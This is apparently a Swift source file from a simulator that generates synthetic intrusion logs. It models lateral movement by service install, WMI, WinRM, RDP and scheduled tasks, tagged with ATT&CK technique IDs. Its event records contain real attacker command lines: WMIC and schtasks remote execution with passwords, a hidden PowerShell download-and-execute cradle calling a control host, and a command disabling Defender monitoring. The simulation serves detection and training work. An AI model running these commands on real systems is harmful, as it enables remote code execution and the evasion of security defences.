import Vocabulary

/// The ways from one host to another, each with what it leaves on both.
extension SpreadStory {
    /// Uploads a program over the administrative share and runs it as a service, the way of PsExec and its copies.
    ///
    /// - Parameter process: What the intruder has on the host that it starts from.
    /// - Returns: What the intruder then has on the target.
    mutating func installService(
        at target: SpreadPlace, from source: SpreadPlace, _ process: Process, as account: Account, hours: Int,
        minutes: Int
    ) -> Process {
        depart(
            from: source, to: target, ["T1021.002", "T1570", "T1543.003", "T1569.002"], hours: hours, minutes: minutes)
        present(account, to: target, service: "cifs", from: source, by: process)
        let (session, origin) = stage.logOn(
            account, from: stage.world.host(source), to: target, on: 445, privileged: true, at: after(1...2))
        // The way over the share is the kernel's, and the tool names an address: no name of the target is left behind.
        stage[source].connect(
            stage[source].kernel, from: origin.port, to: target.address, port: 445, at: now.advanced(byMilliseconds: 8))
        arrive(at: target, from: source, as: account, by: "service", technique: "T1021.002")
        let (file, name) = (letters(8) + ".exe", letters(4))
        truth.brought("C:\\Windows\\" + file, to: stage.world.host(target), seed: stage[target].seed)
        var log = stage[target]
        log.openShare("ADMIN$", path: "\\??\\C:\\Windows", by: session, from: origin, at: after(0...1))
        log.openShareFile(
            file, of: "ADMIN$", path: "\\??\\C:\\Windows", write: true, by: session, from: origin,
            at: now.advanced(byMilliseconds: 30))
        log.createFile("C:\\Windows\\" + file, by: log.kernel, at: now.advanced(byMilliseconds: 60))
        log.openShareFile(
            "svcctl", of: "IPC$", write: true, by: session, from: origin, at: now.advanced(byMilliseconds: 240))
        log.installService(name, file: "%systemroot%\\\(file)", by: session, at: now.advanced(byMilliseconds: 400))
        log.service(name, running: true, at: now.advanced(byMilliseconds: 520))
        let service = log.start(
            "C:\\Windows\\" + file, "C:\\Windows\\" + file, by: log.services, at: now.advanced(byMilliseconds: 490))
        log.createPipe("\\RemCom_communicaton", by: service, at: now.advanced(byMilliseconds: 600))
        log.logOff(session, at: now.advanced(bySeconds: 300))
        stage[target] = log
        return settle(at: target, by: service)
    }

    /// Has the target's WMI start a process.
    mutating func callManagement(
        at target: SpreadPlace, from source: SpreadPlace, _ process: Process, as account: Account, hours: Int,
        minutes: Int
    ) -> Process {
        depart(from: source, to: target, ["T1047"], hours: hours, minutes: minutes)
        let caller = stage[source].start(
            Tool.system("wbem\\WMIC.exe"),
            "wmic /node:\(target.name) /user:\(account.qualifiedName) /password:Pier-4417! process call create \"cmd.exe /c C:\\Windows\\Temp\\s.cmd\"",
            by: process, at: after(1...3))
        present(account, to: target, service: "RPCSS", from: source, by: caller)
        let (session, origin) = stage.logOn(
            account, from: stage.world.host(source), to: target, on: 135, by: stage[target].launcher,
            privileged: true, at: after(1...2))
        stage[source].connect(
            caller, from: origin.port, to: target.address, name: stage.world.host(target).fullName, port: 135,
            at: now.advanced(byMilliseconds: 8))
        arrive(at: target, from: source, as: account, by: "WMI", technique: "T1047")
        let shell = stage[target].start(
            Tool.shell, "cmd.exe /c C:\\Windows\\Temp\\s.cmd", by: stage[target].management, session: session,
            integrity: .high, at: after(1...2))
        return settle(at: target, by: shell)
    }

    /// Opens a shell through PowerShell remoting, from a process that holds the account's ticket.
    mutating func openShell(
        at target: SpreadPlace, from source: SpreadPlace, _ process: Process, as account: Account, hours: Int,
        minutes: Int
    ) {
        depart(from: source, to: target, ["T1021.006"], hours: hours, minutes: minutes)
        let (session, origin) = stage.logOn(
            account, from: stage.world.host(source), to: target, on: 5985, privileged: true, at: after(1...2))
        stage[source].connect(
            process, from: origin.port, to: target.address, name: stage.world.host(target).fullName, port: 5985,
            at: now.advanced(byMilliseconds: 8))
        arrive(at: target, from: source, as: account, by: "WinRM", technique: "T1021.006")
        let remote = stage[target].start(
            Tool.system("wsmprovhost.exe"), "C:\\Windows\\system32\\wsmprovhost.exe -Embedding",
            by: stage[target].launcher, session: session, integrity: .high, at: after(1...2))
        _ = settle(at: target, by: remote)
    }

    /// Opens a remote desktop, through the implant on the host between.
    mutating func openDesktop(
        at target: SpreadPlace, from source: SpreadPlace, _ process: Process, as account: Account, hours: Int,
        minutes: Int
    ) -> Process {
        depart(from: source, to: target, ["T1021.001", "T1090.001"], hours: hours, minutes: minutes)
        stage[source].connect(
            process, from: stage[source].freshPort(), to: target.address, name: stage.world.host(target).fullName,
            port: 3389, at: after(1...2))
        arrive(at: target, from: source, as: account, by: "RDP", technique: "T1021.001")
        let explorer = stage[target].openDesktop(for: account, from: stage.world.host(source), at: now)
        let shell = stage[target].start(
            Tool.shell, "\"C:\\Windows\\System32\\cmd.exe\"", by: explorer, at: after(30...90))
        return settle(at: target, by: shell)
    }

    /// Registers a task on the target, which the target's own scheduler then runs as the system.
    mutating func planTask(
        at target: SpreadPlace, from source: SpreadPlace, _ process: Process, as account: Account, hours: Int,
        minutes: Int
    ) {
        depart(from: source, to: target, ["T1053.005"], hours: hours, minutes: minutes)
        let caller = stage[source].start(
            Tool.schtasks,
            "schtasks.exe /create /s \(target.name) /u \(account.qualifiedName) /p Quay-2210 /ru SYSTEM /sc once /st 23:59 /tn FontCache /tr C:\\Windows\\Temp\\f.cmd",
            by: process, at: after(1...3))
        present(account, to: target, service: "host", from: source, by: caller)
        let (session, origin) = stage.logOn(
            account, from: stage.world.host(source), to: target, on: 445, privileged: true, at: after(1...2))
        stage[source].connect(
            stage[source].kernel, from: origin.port, to: target.address, name: stage.world.host(target).fullName,
            port: 445, at: now.advanced(byMilliseconds: 8))
        arrive(at: target, from: source, as: account, by: "scheduled task", technique: "T1053.005")
        stage[target].openShareFile(
            "atsvc", of: "IPC$", write: true, by: session, from: origin, at: now.advanced(byMilliseconds: 200))
        stage[target].createTask(
            "\\FontCache", command: "C:\\Windows\\Temp\\f.cmd", by: session, at: now.advanced(byMilliseconds: 420))
        stage[target].logOff(session, at: now.advanced(bySeconds: 12))
        let shell = stage[target].start(
            Tool.shell, "cmd.exe /c C:\\Windows\\Temp\\f.cmd", by: stage[target].scheduler, at: after(10...25))
        _ = settle(at: target, by: shell)
    }

    // MARK: Parts of every way

    private mutating func depart(
        from source: SpreadPlace, to target: SpreadPlace, _ techniques: [String], hours: Int, minutes: Int
    ) {
        begin(
            "move from \(source.name) to \(target.name)", techniques + ["T1078.002"], hours: hours, minutes: minutes)
    }

    /// Types an account's password where somebody is logged on; the system itself injects tickets and leaves no record.
    private mutating func present(
        _ account: Account, to target: SpreadPlace, service: String, from source: SpreadPlace, by process: Process
    ) {
        guard process.session.account.sid != .localSystem else { return }
        stage[source].useCredentials(
            of: account, towards: stage.world.host(target), service: service, by: process,
            at: now.advanced(byMilliseconds: 150))
    }

    private mutating func arrive(
        at target: SpreadPlace, from source: SpreadPlace, as account: Account, by method: String, technique: String
    ) {
        let (from, to) = (stage.world.host(source), stage.world.host(target))
        truth.fell(to, from: from, by: method, at: now)
        truth.moved(
            from: from, to: to, as: account, by: method, technique: technique,
            step: "move from \(source.name) to \(target.name)", at: now)
    }

    /// Starts the implant on a host just reached: hidden, with protection off, and calling home.
    private mutating func settle(at place: SpreadPlace, by process: Process) -> Process {
        let script = "IEX (New-Object Net.WebClient).DownloadString('https://\(Self.control.name)/\(letters(6))')"
        let implant = stage[place].start(
            Tool.powerShell, "powershell.exe -nop -w hidden -enc \(encodedCommand(script))", by: process,
            at: after(2...8))
        stage[place].runScript(script, in: implant, suspicious: true, at: after(1...2))
        stage[place].createPipe(
            "\\postex_\([UInt8(stage.random.number(16...255)), UInt8(stage.random.number(16...255))].hexadecimal)",
            by: implant, at: after(1...3))
        stage[place].start(
            Tool.powerShell, "powershell.exe -c Set-MpPreference -DisableRealtimeMonitoring $true", by: implant,
            at: after(20...60))
        let settled = now
        for _ in 0..<3 {
            stage[place].resolve(Self.control.name, to: Self.control.address, by: implant, at: after(300...900))
            stage[place].connect(
                implant, from: stage[place].freshPort(), to: Self.control.address, name: Self.control.name, port: 443,
                at: now.advanced(byMilliseconds: 60))
        }
        now = settled
        return implant
    }
}
